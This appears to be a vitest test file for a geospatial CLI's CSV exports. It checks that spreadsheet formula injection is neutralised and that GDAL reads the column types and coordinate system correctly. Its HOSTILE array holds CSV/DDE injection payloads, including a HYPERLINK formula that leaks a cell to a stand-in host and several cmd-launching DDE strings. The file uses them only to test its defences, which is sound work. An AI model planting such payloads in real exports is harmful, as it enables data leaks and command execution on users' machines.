/**
 * Every CSV the CLI and the report write: safe to open in a spreadsheet (OWASP's formula rule, one shared
 * function), header first, codes kept as text through a `.csvt`, and — where rows are places — placed in
 * WGS 84 through a `.prj` GDAL identifies as EPSG:4326. GDAL itself (ogr2ogr 3.6, the outside client a GIS
 * user has) is the oracle for the last two: GeoPackage always, PostGIS on the DATABASE_URL run.
 */
import { itWhen } from '../helpers/backend-only.js';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditToCsv } from '../../src/cli/audit.js';
import { createDb } from '../../src/db/client.js';
import { csvCell, neutraliseFormula, toCsv } from '../../src/csv.js';
import { reportCsvSidecars, toCsv as reportToCsv } from '../../src/modules/report/report.csv.js';
import { freshCliEnvironment } from '../helpers/db.js';
import { cliBatch } from './run.js';

/** The probe's payloads (issue 19): each would run as a formula in Excel or LibreOffice if left raw. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** OWASP: a cell is dangerous when its text starts with one of these. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);

function hasOgr(): boolean {
  try {
    execFileSync('ogr2ogr', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
const OGR = hasOgr();
if (!OGR) console.warn('GDAL checks skipped: ogr2ogr is missing (apt-get install -y gdal-bin)');

describe('the shared CSV cell (src/csv.ts)', () => {
  it('prefixes every formula-leading text with a quote, as OWASP says, and leaves numbers alone', () => {
    for (const h of HOSTILE) {
      expect(neutraliseFormula(h)).toBe(`'${h}`);
      // Read back as a spreadsheet would read the CSV: the cell no longer starts a formula.
      const [row] = parse(`${csvCell(h)}\n`, { relax_quotes: true }) as string[][];
      expect(dangerous(row![0]!)).toBe(false);
      expect(row![0]).toBe(`'${h}`);
    }
    expect(csvCell('Ludvika')).toBe('Ludvika');
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell('0114', true)).toBe('"0114"');
    expect(toCsv(['a', 'b'], [['=1', 2]])).toBe("a,b\n'=1,2\n");
  });

  it('the audit export neutralises every cell', () => {
    const text = auditToCsv(
      HOSTILE.map((h, i) => ({
        id: String(i + 1),
        at: '2026-12-01T10:00:00.000Z',
        actor: h,
        action: h,
        entity: 'service_point',
        entityId: h,
        before: null,
        after: { name: h },
      })),
    );
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [i, row] of rows.entries()) {
      for (const v of Object.values(row)) expect(dangerous(v), v).toBe(false);
      expect(row.actor).toBe(`'${HOSTILE[i]}`);
      expect(JSON.parse(row.after!)).toEqual({ name: HOSTILE[i] });
    }
  });

  it('the report’s CSV files neutralise every cell and get a .csvt (and a .prj where rows are places)', () => {
    const text = reportToCsv(
      ['name', 'population', 'lon', 'lat', 'WKT'],
      HOSTILE.map((h) => [h, 10, 15, 60, 'POINT (15 60)']),
    );
    expect(text.startsWith('\uFEFFname,')).toBe(true);
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    for (const row of rows) expect(dangerous(row.name!)).toBe(false);
    const sidecars = reportCsvSidecars({
      'settlements.csv': text,
      'indicators.csv': reportToCsv(['areaCode'], []),
    });
    expect(sidecars['settlements.csvt']).toBe('"String","Integer","Real","Real","WKT"\n');
    expect(sidecars['settlements.prj']).toContain('AUTHORITY["EPSG","4326"]');
    expect(sidecars['indicators.csvt']).toBe('"String"\n');
    expect(sidecars['indicators.prj']).toBeUndefined();
  });
});

describe('analyse deserts and analyse capacity: safe, typed and placed CSV files', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  let drop: () => Promise<void>;
  let results: { code: number; stdout: string; stderr: string }[];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'serviceatlas-csv-exports-'));
    ({ env, drop } = await freshCliEnvironment(join(dir, 'db')));
    // Settlements named by the probe, one in Upplands Väsby (0114: a leading zero to keep).
    const names = [...HOSTILE.slice(0, 4), 'Upplands Väsby'];
    const codes = ['2085', '2085', '2085', '2085', '0114'];
    writeFileSync(
      join(dir, 'places.csv'),
      `name,population,municipalityCode,countyCode,lon,lat\n${names
        .map(
          (n, i) =>
            // Each inside its municipality's square below (importing boundaries re-derives codes by place).
            `"${n.replace(/"/g, '""')}",${100 + i},${codes[i]},${codes[i]!.slice(0, 2)},${codes[i] === '0114' ? 18.5 : 15 + i / 10},${60 + i / 10}`,
        )
        .join('\n')}\n`,
    );
    const square = (x: number, y: number) => [
      [
        [x, y],
        [x + 3, y],
        [x + 3, y + 3],
        [x, y + 3],
        [x, y],
      ],
    ];
    writeFileSync(
      join(dir, 'areas.geojson'),
      JSON.stringify({
        type: 'FeatureCollection',
        features: [
          {
            type: 'Feature',
            properties: { code: '2085', name: HOSTILE[0] },
            geometry: { type: 'Polygon', coordinates: square(14, 59) },
          },
          {
            type: 'Feature',
            properties: { code: '0114', name: HOSTILE[2] },
            geometry: { type: 'Polygon', coordinates: square(17, 59) },
          },
        ],
      }),
    );
    results = await cliBatch(env, [
      ['import', 'settlements', join(dir, 'places.csv')],
      ['import', 'areas', join(dir, 'areas.geojson'), '--level', 'MUNICIPALITY'],
      ['analyse', 'deserts', '--service-type', 'PHARMACY', '--output', join(dir, 'deserts.csv')],
      [
        'analyse',
        'capacity',
        '--service-type',
        'ELDERLY_CARE',
        '--format',
        'csv',
        '--output',
        join(dir, 'capacity.csv'),
      ],
      ['audit', 'export', '--since', '2020-01-01', '--format', 'csv', '--output', join(dir, 'audit.csv')],
      ['analyse', 'deserts', '--service-type', 'PHARMACY'],
    ]);
  }, 600_000);
  afterAll(async () => {
    await drop?.();
    rmSync(dir, { recursive: true, force: true });
  });

  it('every command succeeds', () => {
    for (const r of results) expect(r.code, r.stderr).toBe(0);
  });

  it('analyse deserts: header first, the probe’s names neutralised, codes quoted, lon/lat/WKT per row', () => {
    const text = readFileSync(join(dir, 'deserts.csv'), 'utf8');
    expect(text.split('\n')[0]).toMatch(/^settlementId,name,/);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(5);
    for (const row of rows) for (const v of Object.values(row)) expect(dangerous(v), v).toBe(false);
    expect(rows.map((r) => r.name).sort()).toEqual(
      [...HOSTILE.slice(0, 4).map((h) => `'${h}`), 'Upplands Väsby'].sort(),
    );
    expect(text).toContain(',"0114","01",');
    for (const row of rows) expect(row.WKT).toBe(`POINT (${row.lon} ${row.lat})`);
    // The same rows on stdout, and a summary that says what it counts.
    expect(results[5]!.stdout).toBe(text);
    expect(results[5]!.stderr).toMatch(/5 of 5 settlements are beyond the PHARMACY threshold/);
    expect(results[5]!.stderr).toMatch(/sum of the settlements' own populations/);
    expect(results[5]!.stderr).toMatch(/65\+ is not known for any of them/);
    expect(results[5]!.stderr).not.toMatch(/0 aged 65\+/);
  });

  it('analyse capacity --format csv: the header is line 1, area names neutralised, a .csvt beside it', () => {
    const text = readFileSync(join(dir, 'capacity.csv'), 'utf8');
    expect(text.split('\n')[0]).toBe(
      'level,areaCode,areaName,populationBase,demand,need,placesInside,placesReachable,shortfall,meanAccess',
    );
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const ludvika = rows.find((r) => r.areaCode === '2085')!;
    expect(ludvika.areaName).toBe(`'${HOSTILE[0]}`);
    expect(rows.find((r) => r.areaCode === '0114')!.areaName).toBe(`'${HOSTILE[2]}`);
    for (const row of rows) for (const v of Object.values(row)) expect(dangerous(v), v).toBe(false);
    expect(readFileSync(join(dir, 'capacity.csvt'), 'utf8').trim().split(',')).toHaveLength(10);
    expect(results[3]!.stderr).toMatch(/2SFCA/); // the method, in words, on stderr
  });

  describe.skipIf(!OGR)(
    'as GDAL reads them (skipped: install GDAL, e.g. Debian’s gdal-bin, for ogr2ogr)',
    () => {
      const ogrinfo = (...args: string[]) => execFileSync('ogrinfo', args, { encoding: 'utf8' });

      it('GeoPackage: the deserts layer is EPSG:4326 points with String codes and Integer populations', () => {
        const gpkg = join(dir, 'deserts.gpkg');
        execFileSync('ogr2ogr', ['-f', 'GPKG', gpkg, join(dir, 'deserts.csv'), '-nln', 'deserts']);
        const srs = ogrinfo(
          gpkg,
          '-sql',
          "SELECT srs_id FROM gpkg_geometry_columns WHERE table_name = 'deserts'",
        );
        expect(srs).toMatch(/srs_id \(Integer(64)?\) = 4326/);
        const summary = ogrinfo('-so', gpkg, 'deserts');
        expect(summary).toMatch(/Layer SRS WKT:\s*\nGEOGCRS\["WGS 84"/);
        expect(summary).toMatch(/Feature Count: 5/);
        expect(summary).toMatch(/municipalityCode: String/);
        expect(summary).toMatch(/countyCode: String/);
        expect(summary).toMatch(/population: Integer/);
        expect(summary).toMatch(/travelMinutes: Real/);
        const codes = ogrinfo(
          gpkg,
          '-sql',
          "SELECT municipalityCode FROM deserts WHERE name = 'Upplands Väsby'",
        );
        expect(codes).toMatch(/municipalityCode \(String\) = 0114/);
      });

      it('GeoPackage: the capacity and audit tables keep their column types', () => {
        const gpkg = join(dir, 'tables.gpkg');
        execFileSync('ogr2ogr', ['-f', 'GPKG', gpkg, join(dir, 'capacity.csv'), '-nln', 'capacity']);
        execFileSync('ogr2ogr', ['-f', 'GPKG', '-update', gpkg, join(dir, 'audit.csv'), '-nln', 'audit']);
        const capacity = ogrinfo('-so', gpkg, 'capacity');
        expect(capacity).toMatch(/areaCode: String/);
        expect(capacity).toMatch(/need: Real/);
        expect(
          ogrinfo(
            gpkg,
            '-sql',
            "SELECT areaCode FROM capacity WHERE level = 'MUNICIPALITY' ORDER BY areaCode",
          ),
        ).toMatch(/areaCode \(String\) = 0114/);
        const audit = ogrinfo('-so', gpkg, 'audit');
        expect(audit).toMatch(/at: DateTime/);
        expect(audit).toMatch(/entityId: String/);
      });

      itWhen(process.env.DATABASE_URL)(
        'PostGIS: the deserts table has SRID 4326 and text codes',
        async () => {
          const url = new URL(env.DATABASE_URL!);
          const pg = `PG:host=${url.hostname} port=${url.port || 5432} user=${decodeURIComponent(url.username)} dbname=${url.pathname.slice(1)}`;
          execFileSync(
            'ogr2ogr',
            ['-f', 'PostgreSQL', pg, join(dir, 'deserts.csv'), '-nln', 'gdal_deserts'],
            {
              env: { ...process.env, PGPASSWORD: decodeURIComponent(url.password) },
            },
          );
          const handle = await createDb({ databaseUrl: env.DATABASE_URL! });
          try {
            const srid = await sql<{ column: string; srid: number }>`
          SELECT f_geometry_column AS column, srid FROM geometry_columns WHERE f_table_name = 'gdal_deserts'`.execute(
              handle.db,
            );
            expect(srid.rows.map((r) => Number(r.srid))).toEqual([4326]);
            const types = await sql<{ column_name: string; data_type: string }>`
          SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'gdal_deserts'`.execute(
              handle.db,
            );
            const typeOf = new Map(types.rows.map((r) => [r.column_name, r.data_type]));
            expect(typeOf.get('municipalitycode')).toBe('character varying');
            expect(typeOf.get('population')).toBe('integer');
            const v = await sql<{ municipalitycode: string; x: number }>`
          SELECT municipalitycode, ST_X(${sql.ref(srid.rows[0]!.column)}) AS x FROM gdal_deserts WHERE name = 'Upplands Väsby'`.execute(
              handle.db,
            );
            expect(v.rows[0]!.municipalitycode).toBe('0114');
            expect(Number(v.rows[0]!.x)).toBeCloseTo(18.5, 6);
          } finally {
            await handle.close();
          }
        },
      );
    },
  );
});
